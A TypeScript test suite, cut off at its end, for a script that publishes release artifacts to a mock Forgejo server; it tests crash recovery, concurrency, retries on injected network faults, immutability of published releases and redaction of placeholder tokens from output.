/**
 * publish-release.ts against the Forgejo-compatible test server: the happy path, re-runs after a
 * crash at every step, concurrent runs, every injected fault and every error mapping. Every run
 * asserts that the token never appears in what the script printed.
 */
import { afterAll, afterEach, describe, expect, test } from "bun:test";
import { $ } from "zx/core";
import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { writeManifest, type Manifest } from "../scripts/lib/build/manifest.ts";
import { releaseNames } from "../scripts/lib/build/targets.ts";
import { makeDist } from "./support/dist.ts";
import {
  MAIN_SHA, startCaptureServer, startForgejo, type ForgejoOptions, type ForgejoServer, type ReleaseView,
} from "./support/forgejo-server.ts";
import { ROOT, cleanEnv, runScript, type RunResult } from "./support/run.ts";
import { makeSshKey } from "./support/ssh-keys.ts";

const WRITE = "fjt_write_5e1f0a9b7c3d2e4f6a8b";
const READ = "fjt_read_77aa01bc23de45f6";
const NONE = "fjt_none_99cc00dd11ee22ff";
const ACTIONS = "fjt_actions_4b5c6d7e8f9a0b1c";
const TOKENS: ForgejoOptions["tokens"] = {
  [WRITE]: { user: "publisher", access: "write" },
  [READ]: { user: "reader", access: "read" },
  [NONE]: { user: "stranger", access: "none" },
  [ACTIONS]: { user: "forgejo-actions", access: "write", actions: true },
};
const OTHER_SHA = "fedcba9876543210fedcba9876543210fedcba98";
const ALL_FILES = [...releaseNames(), "SHA256SUMS", "provenance.intoto.json", "manifest.json"];

const servers: ForgejoServer[] = [];
const dirs: string[] = [];
afterEach(async () => {
  while (servers.length) await servers.pop()!.stop();
});
afterAll(async () => {
  for (const d of dirs) await rm(d, { recursive: true, force: true });
});

async function server(options: ForgejoOptions = {}): Promise<ForgejoServer> {
  const s = await startForgejo({ tokens: TOKENS, commits: [OTHER_SHA], ...options });
  servers.push(s);
  return s;
}

async function dist(options: Partial<Parameters<typeof makeDist>[0]> = {}): Promise<{ dir: string; manifest: Manifest }> {
  const d = await makeDist({ commit: MAIN_SHA, ...options });
  dirs.push(d.dir);
  return d;
}

/** Fast network tuning: tests inject faults, they should not wait for real backoffs. */
const FAST = { RUNNER_IMAGES_RETRY_DELAY_MS: "5", RUNNER_IMAGES_RETRIES: "3", RUNNER_IMAGES_STALL_TIMEOUT: "1" };

async function publish(s: ForgejoServer | string, distDir: string, args: string[], env: Record<string, string | undefined> = {}): Promise<RunResult> {
  const url = typeof s === "string" ? s : s.url;
  const r = await runScript(
    "publish-release.ts",
    // Unsigned: signing has its own tests (tests/signing.test.ts, tests/verify-release.test.ts).
    ["--dist", distDir, "--server", url, "--repo", "ops/runner-images", "--unsigned", ...args],
    { env: cleanEnv({ FORGEJO_TOKEN: WRITE, ...FAST, ...env }) },
  );
  for (const token of [WRITE, READ, NONE, ACTIONS]) {
    expect(r.stdout).not.toContain(token);
    expect(r.stderr).not.toContain(token);
  }
  return r;
}

const sha256 = (bytes: Uint8Array) => new Bun.CryptoHasher("sha256").update(bytes).digest("hex");

/** The release for `tag` holds exactly the dist, once each, with the dist's bytes. */
async function expectComplete(s: ForgejoServer, tag: string, distDir: string, draft = false): Promise<ReleaseView> {
  const releases = s.state().releases.filter((r) => r.tagName === tag && !r.isTag);
  expect(releases).toHaveLength(1);
  const release = releases[0]!;
  expect(release.draft).toBe(draft);
  expect(release.assets.map((a) => a.name).sort()).toEqual([...ALL_FILES].sort());
  for (const asset of release.assets) {
    expect(asset.sha256).toBe(sha256(await Bun.file(join(distDir, asset.name)).bytes()));
  }
  return release;
}

const uploadedBytes = (s: ForgejoServer, from = 0) =>
  s.requests.slice(from).filter((r) => r.method === "POST" && r.path.endsWith("/assets")).reduce((n, r) => n + r.bytesIn, 0);

/** The API as the test's own hands, to set up crashed states. */
async function api(s: ForgejoServer, method: string, path: string, body?: unknown, raw?: Uint8Array): Promise<Response> {
  return fetch(`${s.apiUrl}/repos/ops/runner-images${path}`, {
    method,
    headers: { authorization: `token ${WRITE}`, "content-type": raw ? "application/octet-stream" : "application/json" },
    body: raw ?? (body === undefined ? undefined : JSON.stringify(body)),
  });
}
async function createDraft(s: ForgejoServer, tag: string): Promise<number> {
  const r = await api(s, "POST", "/releases", { tag_name: tag, target_commitish: MAIN_SHA, name: tag, draft: true });
  expect(r.status).toBe(201);
  return ((await r.json()) as { id: number }).id;
}
async function uploadRaw(s: ForgejoServer, id: number, name: string, bytes: Uint8Array): Promise<void> {
  const r = await api(s, "POST", `/releases/${id}/assets?name=${encodeURIComponent(name)}`, undefined, bytes);
  expect(r.status).toBe(201);
}

describe("the happy path", () => {
  test("publishes every file once, at the dist's commit, and prints the release URL", async () => {
    const s = await server();
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--json"]);
    expect(r.stderr).not.toContain("error:");
    expect(r.code).toBe(0);
    const release = await expectComplete(s, "boot-v1.0.0", d.dir);
    expect(release.prerelease).toBe(false);
    expect(release.target).toBe(MAIN_SHA);
    expect(s.state().tags["boot-v1.0.0"]).toBe(MAIN_SHA);
    const result = JSON.parse(r.stdout);
    expect(result).toMatchObject({ state: "published", tag: "boot-v1.0.0", uploaded: ALL_FILES });
    expect(result.url).toBe(`${s.url}/ops/runner-images/releases/tag/boot-v1.0.0`);
    expect(r.stderr).toContain(`published: ${result.url}`);
    // SHA256SUMS, the statement and manifest.json are uploaded after every image, manifest.json last.
    const uploads = s.requests.filter((q) => q.method === "POST" && q.path.endsWith("/assets")).map((q) => decodeURIComponent(q.query).replace(/^\?name=|\.partial-.*$/g, ""));
    expect(uploads.slice(-3)).toEqual(["SHA256SUMS", "provenance.intoto.json", "manifest.json"]);
    // --verify full (the default) downloaded every asset back before publishing.
    expect(s.requests.filter((q) => q.method === "GET" && q.path.startsWith("/attachments/")).length).toBeGreaterThanOrEqual(ALL_FILES.length);
  });

  test("a re-run after success sends zero bytes and says it is already published", async () => {
    const s = await server();
    const d = await dist();
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    const from = s.requests.length;
    const again = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--json"]);
    expect(again.code).toBe(0);
    expect(again.stderr).toContain("already published with exactly these files");
    expect(uploadedBytes(s, from)).toBe(0);
    expect(s.requests.slice(from).every((q) => q.method === "GET")).toBe(true);
    expect(JSON.parse(again.stdout).calls).toBeLessThanOrEqual(6);
  });

  test("a maintainer's countersignature added after publishing is not a difference: a re-run (CI's 'Re-run') succeeds and keeps it", async () => {
    const s = await server();
    const d = await dist();
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    const release = s.state().releases.find((r) => r.tagName === "boot-v1.0.0")!;
    const up = await fetch(`${s.apiUrl}/repos/ops/runner-images/releases/${release.id}/assets?name=provenance.intoto.json.countersig`, {
      method: "POST", body: "-----BEGIN SSH SIGNATURE-----\n", headers: { authorization: `token ${WRITE}`, "content-type": "application/octet-stream" },
    });
    expect(up.status).toBe(201);
    const again = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(again.stderr).toContain("already published");
    expect(again.code).toBe(0);
    expect(s.state().releases.find((r) => r.tagName === "boot-v1.0.0")!.assets.map((a) => a.name)).toContain("provenance.intoto.json.countersig");
  });

  test("a rebuild of the same commit with identical images is still 'identical' (build time differs)", async () => {
    const s = await server();
    const first = await dist();
    expect((await publish(s, first.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    const rebuilt = await dist(); // same contents, new builtAt
    const again = await publish(s, rebuilt.dir, ["--tag", "boot-v1.0.0"]);
    expect(again.code).toBe(0);
    expect(again.stderr).toContain("already published");
  });

  test("dev and -suffix tags are prereleases; boot-dev tags are the default in a dispatched CI run", async () => {
    const s = await server();
    const d = await dist();
    const ci = { FORGEJO_RUN_ID: "77", FORGEJO_RUN_NUMBER: "12", FORGEJO_REF_TYPE: "branch", FORGEJO_REF_NAME: "main", FORGEJO_EVENT_NAME: "workflow_dispatch" };
    const r = await runScript("publish-release.ts", ["--dist", d.dir], {
      env: cleanEnv({ ...FAST, ...ci, FORGEJO_TOKEN: WRITE, FORGEJO_SERVER_URL: `${s.url}/`, FORGEJO_REPOSITORY: "ops/runner-images" }),
    });
    expect(r.code).toBe(0);
    const tag = `boot-dev-12-${MAIN_SHA.slice(0, 7)}`;
    expect((await expectComplete(s, tag, d.dir)).prerelease).toBe(true);
    // Dispatched on a boot-v tag (Forgejo's dispatch takes a tag as its ref): still a dev prerelease.
    const onTag = await runScript("publish-release.ts", ["--dist", d.dir], {
      env: cleanEnv({ ...FAST, ...ci, FORGEJO_RUN_NUMBER: "13", FORGEJO_REF_TYPE: "tag", FORGEJO_REF_NAME: "boot-v3.0.0", FORGEJO_TOKEN: WRITE, FORGEJO_SERVER_URL: s.url, FORGEJO_REPOSITORY: "ops/runner-images" }),
    });
    expect(onTag.code).toBe(0);
    expect(s.state().releases.map((x) => x.tagName)).toContain(`boot-dev-13-${MAIN_SHA.slice(0, 7)}`);
    expect(s.state().releases.map((x) => x.tagName)).not.toContain("boot-v3.0.0");
    expect((await publish(s, d.dir, ["--tag", "boot-v2.0.0-rc.1"])).code).toBe(0);
    expect(s.state().releases.find((x) => x.tagName === "boot-v2.0.0-rc.1")!.prerelease).toBe(true);
  });
});

describe("progress", () => {
  test("--verify full shows the progress of every large download back", async () => {
    const s = await server();
    const d = await dist({ isoBytes: 40 * 1024 * 1024 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--verify", "full"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/downloading runner-x86_64\.iso back to verify it: 100% of 40\.0 MiB/);
    expect(r.stderr).toMatch(/uploading runner-x86_64\.iso: 100% of 40\.0 MiB/);
  }, 30_000);
});

describe("title, notes and --debug", () => {
  test("the title and notes file reach the release; --debug logs calls but never the token", async () => {
    const s = await server();
    const d = await dist();
    const notes = join(d.dir, "..", `notes-${Date.now()}.md`);
    await writeFile(notes, "Fixes the docker label.\n");
    dirs.push(notes);
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.1", "--title", "1.10", "--notes-file", notes, "--debug"]);
    expect(r.code).toBe(0);
    const release = s.state().releases.find((x) => x.tagName === "boot-v1.0.1")!;
    expect(release.title).toBe("1.10"); // as typed: no number coercion
    expect(release.note).toBe("Fixes the docker label.\n");
    expect(r.stderr).toMatch(/debug: GET \/api\/v1\/repos\/ops\/runner-images -> 200/);
  });

  test("a --title over 255 bytes is refused before anything is sent: Forgejo would cut it", async () => {
    const d = await dist();
    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0", "--title", "é".repeat(128)]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("--title is 256 bytes; Forgejo keeps 255 (it cuts longer titles): shorten it");
  });

  test("generated notes name the commit, nixpkgs and every file's SHA-256", async () => {
    const s = await server();
    const d = await dist();
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.2"])).code).toBe(0);
    const note = s.state().releases.find((x) => x.tagName === "boot-v1.0.2")!.note;
    expect(note).toContain(MAIN_SHA);
    expect(note).toContain("b18a4b905f8d028dc4476412e6d6891728695379");
    for (const a of d.manifest.artifacts) expect(note).toContain(a.sha256);
    expect(note).not.toContain("Boot numbers");
  });

  test("a manifest with the boot test's numbers (build-images --boot-numbers) puts them in the notes", async () => {
    const s = await server();
    const d = await dist();
    const measured = { target: "netboot-x86_64", memoryMiB: 3072, initrdBytes: 943718400, powerOnToRunnerOnlineSeconds: 84, peakMemoryKiB: 1572864 };
    await writeManifest(d.dir, { ...d.manifest, bootNumbers: [measured] });
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.3"])).code).toBe(0);
    const note = s.state().releases.find((x) => x.tagName === "boot-v1.0.3")!.note;
    expect(note).toContain("### Boot numbers (netboot-x86_64, measured by the Forgejo boot test on its instrumented build)");
    expect(note).toContain("| power-on to the runner online | 84.0 s |");
    expect(note).toContain("| peak memory in use (of 3072 MiB) | 1536 MiB |");
  });

  test("boot numbers for a target the manifest did not build, or twice for one, are bad input, before the server is touched", async () => {
    const s = await server();
    const d = await dist();
    await writeManifest(d.dir, { ...d.manifest, bootNumbers: [{ target: "netboot-aarch64", memoryMiB: 3072, initrdBytes: 1 }] });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.4"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("manifest.json: bootNumbers[0] is for netboot-aarch64, which this manifest did not build");
    const measured = { target: "netboot-x86_64", memoryMiB: 3072, initrdBytes: 1 };
    await writeManifest(d.dir, { ...d.manifest, bootNumbers: [measured, { ...measured, memoryMiB: 1024 }] });
    const twice = await publish(s, d.dir, ["--tag", "boot-v1.0.4"]);
    expect(twice.code).toBe(2);
    expect(twice.stderr).toContain("manifest.json: bootNumbers lists netboot-x86_64 twice");
    expect(s.requests.length).toBe(0);
  });
});

describe("re-running after a crash ends complete and clean", () => {
  test("a draft without assets", async () => {
    const s = await server();
    const d = await dist();
    await createDraft(s, "boot-v1.1.0");
    expect((await publish(s, d.dir, ["--tag", "boot-v1.1.0"])).code).toBe(0);
    await expectComplete(s, "boot-v1.1.0", d.dir);
  });

  test("half an upload: the connection dies mid-ISO every time, then a re-run completes", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "reset", method: "POST", path: /\/assets$/, afterBytes: 1024 * 1024, times: 4 });
    const failed = await publish(s, d.dir, ["--tag", "boot-v1.2.0"]);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toMatch(/error: uploading \S+ \(after [\d.]+ (B|KiB|MiB) of [\d.]+ (B|KiB|MiB)\)/);
    // Nothing half-published: still a draft, and no final name holds wrong bytes.
    const draft = s.state().releases.find((r) => r.tagName === "boot-v1.2.0")!;
    expect(draft.draft).toBe(true);
    expect(s.state().tags["boot-v1.2.0"]).toBeUndefined();
    s.clearFaults();
    expect((await publish(s, d.dir, ["--tag", "boot-v1.2.0"])).code).toBe(0);
    await expectComplete(s, "boot-v1.2.0", d.dir);
  });

  test("a temporary name left behind, duplicates of one name and a wrong file under a final name", async () => {
    const s = await server();
    const d = await dist();
    const id = await createDraft(s, "boot-v1.3.0");
    const good = await Bun.file(join(d.dir, "initrd-x86_64")).bytes();
    const wrong = good.slice();
    wrong[0] = wrong[0]! ^ 0xff; // same size, other bytes
    await uploadRaw(s, id, "runner-x86_64.iso.partial-deadbeef", new Uint8Array(1000));
    await uploadRaw(s, id, "initrd-x86_64", wrong);
    await uploadRaw(s, id, "bzImage-x86_64", await Bun.file(join(d.dir, "bzImage-x86_64")).bytes());
    await uploadRaw(s, id, "bzImage-x86_64", await Bun.file(join(d.dir, "bzImage-x86_64")).bytes());
    await uploadRaw(s, id, "notes.txt", new Uint8Array(10));
    const from = s.requests.length;
    const r = await publish(s, d.dir, ["--tag", "boot-v1.3.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("deleting runner-x86_64.iso.partial-deadbeef (left by an interrupted run)");
    expect(r.stderr).toContain("deleting bzImage-x86_64 (duplicate name)");
    expect(r.stderr).toContain("replacing initrd-x86_64");
    expect(r.stderr).toContain("skipping bzImage-x86_64: already there, identical");
    await expectComplete(s, "boot-v1.3.0", d.dir);
    // The identical bzImage was not sent again.
    const sent = s.requests.slice(from).filter((q) => q.method === "POST" && q.query.includes("bzImage"));
    expect(sent).toHaveLength(0);
  });

  test("a release whose drafts the tag lookup hides is found through the list, not created twice", async () => {
    const s = await server({ draftTagLookup: "none" });
    const d = await dist();
    await createDraft(s, "boot-v1.4.0");
    expect((await publish(s, d.dir, ["--tag", "boot-v1.4.0"])).code).toBe(0);
    await expectComplete(s, "boot-v1.4.0", d.dir);
  });

  test("a pushed tag (a bare tag, no release) is converted and published without moving it", async () => {
    const s = await server();
    const d = await dist();
    s.pushTag("boot-v1.5.0", MAIN_SHA);
    expect((await publish(s, d.dir, ["--tag", "boot-v1.5.0"])).code).toBe(0);
    await expectComplete(s, "boot-v1.5.0", d.dir);
    expect(s.state().tags["boot-v1.5.0"]).toBe(MAIN_SHA);
  });
});

describe("what others can see meanwhile", () => {
  test("a changed file is replaced through a temporary name: at no moment does a release hold one final name twice", async () => {
    // With two assets of one name, Forgejo serves an arbitrary one at its download URL (§9).
    const twice: string[] = [];
    const s: ForgejoServer = await server({
      onRequest: () => {
        for (const r of s.state().releases) {
          const names = r.assets.map((a) => a.name).filter((n) => !n.includes(".partial-"));
          for (const n of names) if (names.indexOf(n) !== names.lastIndexOf(n)) twice.push(`${n} after request ${s.requests.length}`);
        }
      },
    });
    const d = await dist();
    const id = await createDraft(s, "boot-v1.0.0");
    await uploadRaw(s, id, "bzImage-x86_64", new Uint8Array(200_000).fill(1)); // same size, other bytes
    await uploadRaw(s, id, "runner-x86_64.iso", new Uint8Array(10)); // other size
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("replacing bzImage-x86_64");
    expect([...new Set(twice)]).toEqual([]);
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });

  test("a server that echoes the token into an error body: the token never reaches the output", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "echo-token", status: 403, method: "GET", path: /\/repos\/ops\/runner-images$/ });
    // publish() fails the test if the token appears anywhere in stdout or stderr.
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--debug"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('refused credentials "token [redacted]"');
  });
});

describe("concurrency", () => {
  test("two runs for one tag at once end with one complete release", async () => {
    const s = await server();
    const d = await dist({ isoBytes: 8 * 1024 * 1024 });
    // Each create is held before the server reads it, so both runs have looked and found no
    // release before either is created: one of them gets the 409.
    s.addFault({ kind: "stall", method: "POST", path: /\/releases$/, ms: 1500, times: 2 });
    const [a, b] = await Promise.all([publish(s, d.dir, ["--tag", "boot-v3.0.0"]), publish(s, d.dir, ["--tag", "boot-v3.0.0"])]);
    expect(a.stderr + b.stderr).toContain("release boot-v3.0.0 was created concurrently; continuing with it");
    // Both succeed: the one that lost the race to create the draft (409) continues with the other's.
    expect({ a: a.code, b: b.code, stderr: a.code || b.code ? a.stderr + b.stderr : "" }).toEqual({ a: 0, b: 0, stderr: "" });
    // Whatever the interleaving, a re-run confirms one complete, published release.
    const confirm = await publish(s, d.dir, ["--tag", "boot-v3.0.0"]);
    expect(confirm.code).toBe(0);
    await expectComplete(s, "boot-v3.0.0", d.dir);
  }, 60_000);
});

describe("published releases are immutable", () => {
  test("a published release that differs is refused, exit 1, and left alone", async () => {
    const s = await server();
    const first = await dist();
    expect((await publish(s, first.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    const other = await dist({ flavour: "b" });
    const r = await publish(s, other.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("is already published and differs from the dist");
    expect(r.stderr).toContain("runner-x86_64.iso has another SHA-256 there");
    await expectComplete(s, "boot-v1.0.0", first.dir);
  });

  test("--replace-published replaces it, verified, and publishes again", async () => {
    const s = await server();
    const first = await dist();
    expect((await publish(s, first.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    const other = await dist({ flavour: "b" });
    const r = await publish(s, other.dir, ["--tag", "boot-v1.0.0", "--replace-published"]);
    expect(r.code).toBe(0);
    await expectComplete(s, "boot-v1.0.0", other.dir);
  });

  test("a tag that exists at another commit stops the run before anything is created", async () => {
    const s = await server();
    const d = await dist();
    s.pushTag("boot-v1.6.0", OTHER_SHA);
    const r = await publish(s, d.dir, ["--tag", "boot-v1.6.0"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`tag boot-v1.6.0 already exists at ${OTHER_SHA}, but the dist was built from ${MAIN_SHA}`);
    expect(s.state().releases.filter((x) => !x.isTag)).toHaveLength(0);
  });
});

describe("faults are retried where a retry can help", () => {
  test("a burst of 503s and a 429 with Retry-After are retried; the release completes", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "status", status: 503, method: "GET", path: /\/releases\/tags\//, times: 2 });
    s.addFault({ kind: "status", status: 429, retryAfter: 1, method: "POST", path: /\/releases$/, times: 1 });
    const started = Date.now();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("retrying in 1.0 s");
    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });

  test("a 500 on an idempotent call is retried, a 500 on creating the release is not", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "status", status: 500, method: "PATCH", path: /\/releases\/\d+$/, times: 1 });
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    const t = await server();
    t.addFault({ kind: "status", status: 500, method: "POST", path: /\/releases$/, times: 1 });
    const r = await publish(t, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("creating release boot-v1.0.0: 500");
    expect(t.requests.filter((q) => q.method === "POST" && q.path.endsWith("/releases"))).toHaveLength(1);
  });

  test("a 4xx other than 429 is never retried", async () => {
    const s = await server();
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: "fjt_unknown_0000000000" });
    expect(r.code).toBe(1);
    expect(s.requests.filter((q) => q.status === 401)).toHaveLength(1);
  });

  test("a connection reset mid-upload is retried under a fresh name, leaving no debris", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "reset", method: "POST", path: /\/assets$/, afterBytes: 512 * 1024, times: 1 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("retrying in");
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });

  test("a stalled upload times out on lack of progress and is retried", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "stall", method: "POST", path: /\/assets$/, afterBytes: 256 * 1024, ms: 4000, times: 1 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("no progress for 1 s");
    await expectComplete(s, "boot-v1.0.0", d.dir);
  }, 30_000);

  test("an upload the proxy reports as 502 although it was stored is cleaned up, not duplicated", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "status-after-work", status: 502, method: "POST", path: /\/assets$/, times: 1 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });

  test("a dropped connection on a read is retried", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "close", method: "GET", path: /\/tags\//, times: 2 });
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
  });

  test("a download back cut off mid-body is retried from the start: the release completes", async () => {
    const s = await server();
    const d = await dist({ isoBytes: 4 * 1024 * 1024 });
    s.addFault({ kind: "cut-response", method: "GET", path: /\/attachments\//, afterBytes: 1024 * 1024, times: 1 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--verify", "full"]);
    expect(r.stderr).toMatch(/retrying in [\d.]+ s \(downloading .* back to verify it: the connection to .* was cut off/);
    expect(r.code).toBe(0);
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });
});

describe("a dead, wrong or flaky server", () => {
  test("connection refused on first contact fails at once: no retries, one line", async () => {
    const d = await dist();
    // Default retries: first contact is never retried, whatever RUNNER_IMAGES_RETRIES says.
    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_RETRIES: "5" });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("connection to http://127.0.0.1:1 refused; is --server right and the server up?");
    expect(r.stderr).not.toContain("retrying");
  });

  test("a host that accepts connections but never answers: one attempt, named as such", async () => {
    let connections = 0;
    const silent = Bun.listen({ hostname: "127.0.0.1", port: 0, socket: { open: () => void connections++, data() {} } });
    try {
      const d = await dist();
      const r = await publish(`http://127.0.0.1:${silent.port}`, d.dir, ["--tag", "boot-v1.0.0"], {
        RUNNER_IMAGES_CONNECT_TIMEOUT: "1", RUNNER_IMAGES_HTTP_TIMEOUT: "2", RUNNER_IMAGES_RETRIES: "2",
      });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`http://127.0.0.1:${silent.port} accepted the connection but did not answer within 1 s`);
      expect(r.stderr).not.toContain("retrying");
      expect(connections).toBe(1);
    } finally {
      silent.stop(true);
    }
  });

  test("a --server with a path (the repository's page, or the API's) is named as the problem, exit 2", async () => {
    const s = await server();
    const d = await dist();
    for (const wrong of [`${s.url}/ops/runner-images`, `${s.url}/api/v1`]) {
      const r = await publish(wrong, d.dir, ["--tag", "boot-v1.0.0"]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`--server ${wrong}: no Forgejo API at ${wrong}/api/v1 (404)`);
      expect(r.stderr).toContain(`did you mean --server ${s.url}?`);
      expect(r.stderr).not.toContain("--repo");
    }
    expect(s.state().releases).toHaveLength(0);
  });

  test("a body cut off while it is read is retried with the call; the runtime's text never shows", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "cut-response", afterBytes: 10, method: "GET", path: /\/releases\/\d+\/assets$/, times: 1 });
    const once = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(once.code).toBe(0);
    expect(once.stderr).toContain("retrying in");
    const t = await server();
    t.addFault({ kind: "cut-response", afterBytes: 10, method: "GET", path: /\/releases\/\d+\/assets$/, times: Infinity });
    const always = await publish(t, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(always.code).toBe(1);
    expect(always.stderr).toContain("listing the release's assets: the connection to");
    expect(always.stderr).toContain("was cut off");
    expect(always.stderr).not.toMatch(/verbose|socket connection was closed/);
  });

  test("retry lines say what was being done", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "status", status: 503, method: "GET", path: /\/tags\//, times: 1 });
    s.addFault({ kind: "close", method: "GET", path: /\/releases\/tags\//, times: 2 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/retrying in [\d.]+ s \(looking up tag boot-v1\.0\.0: 503/);
    expect(r.stderr).toMatch(/retrying in [\d.]+ s \(looking up release boot-v1\.0\.0: /);
    expect(r.stderr).not.toMatch(/\((GET|POST|PATCH|DELETE) /);
  });

  test("an upload answered 503 with Retry-After waits as told", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "status", status: 503, retryAfter: 1, method: "POST", path: /\/assets$/, times: 1 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/retrying in 1\.0 s \(uploading /);
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });
});

describe("before the first write", () => {
  test("a commit that is not on the server: push it, then re-run; nothing is uploaded", async () => {
    const s = await server();
    const unpushed = "abcdef0123456789abcdef0123456789abcdef01";
    const d = await dist({ commit: unpushed });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`the dist was built from ${unpushed}, which ops/runner-images on ${s.url} does not have: push it (git push origin ${unpushed}:refs/heads/<branch>), then re-run`);
    expect(uploadedBytes(s)).toBe(0);
    expect(s.state().releases).toHaveLength(0);
  });
});

describe("the server going away", () => {
  test("mid-upload: the upload's failure is the error, the failed clean-up only a note, and the draft is named", async () => {
    const s = await server();
    const d = await dist({ isoBytes: 6 * 1024 * 1024 });
    s.addFault({ kind: "stall", method: "POST", path: /\/assets$/, afterBytes: 1024 * 1024, ms: 20_000, times: Infinity });
    const running = publish(s, d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_STALL_TIMEOUT: "30" });
    while (!s.requests.some((q) => q.method === "POST" && q.path.endsWith("/assets"))) await Bun.sleep(20);
    await Bun.sleep(200);
    await s.stop();
    servers.splice(servers.indexOf(s), 1);
    const r = await running;
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/error: uploading bzImage-x86_64 \(after [\d.]+ K?i?B of 195\.3 KiB\): (the )?connection to http:\/\/127\.0\.0\.1:\d+ (was cut off|refused, though it answered earlier in this run: is Forgejo restarting or gone\?)/);
    expect(r.stderr).not.toContain("is --server right");
    expect(r.stderr).toContain("boot-v1.0.0 is left as a draft, not visible to downloaders; run the same command again to finish it");
    expect(r.stderr).toMatch(/note: could not remove .* \(listing the release's assets: connection to .* refused/);
    expect(r.stderr).not.toMatch(/error: listing/);
  }, 30_000);

  test("a dist file deleted while it is uploaded: named, the draft left, no runtime text", async () => {
    const s = await server();
    const d = await dist({ isoBytes: 4 * 1024 * 1024 });
    const iso = join(d.dir, "runner-x86_64.iso");
    // The ISO's upload (the only one over 1 MiB) pauses there; meanwhile the file goes (a rebuild, a
    // clean-up). A fault is used up by the first request it matches: so for every upload.
    s.addFault({ kind: "stall", method: "POST", path: /\/assets$/, afterBytes: 1024 * 1024, ms: 1500, times: Infinity });
    const running = publish(s, d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_STALL_TIMEOUT: "30" });
    // The fourth upload is the ISO's (the small files go first).
    while (s.requests.filter((q) => q.method === "POST" && q.path.endsWith("/assets")).length < 4) await Bun.sleep(20);
    await rm(iso);
    const r = await running;
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("runner-x86_64.iso");
    expect(r.stderr).toMatch(/error: uploading runner-x86_64\.iso.*is gone from the dist/);
    expect(r.stderr).toContain("boot-v1.0.0 is left as a draft, not visible to downloaders; run the same command again to finish it");
    expect(r.stderr).not.toMatch(/ENOENT|no such file or directory/);
  }, 30_000);
});

describe("Ctrl-C", () => {
